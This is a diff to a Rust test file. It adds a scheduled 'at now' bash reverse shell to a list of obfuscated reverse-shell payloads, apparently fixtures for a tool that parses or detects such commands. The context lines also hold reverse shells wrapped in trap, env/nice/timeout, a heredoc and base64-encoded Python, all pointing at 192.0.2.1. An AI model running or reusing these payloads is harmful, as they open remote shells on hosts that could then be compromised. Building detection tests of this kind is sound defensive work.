@@ -137,6 +137,7 @@ fn payloads_taken_apart_are_put_together_again() {
             "trap 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' EXIT",
             "env X=1 nice -n 5 timeout 60 bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
             "bash <<X\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\nX\n",
+            "echo \"/bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/1 0>&1'\" | at now",
             "python3 -c 'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZ\
              XQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTkyLjAuMi4xIiwxKSk7b3MuZHVwMihzLmZpbGVubygpLDApO3B0eS5zcGF3\
              bigiL2Jpbi9zaCIp\"))'",
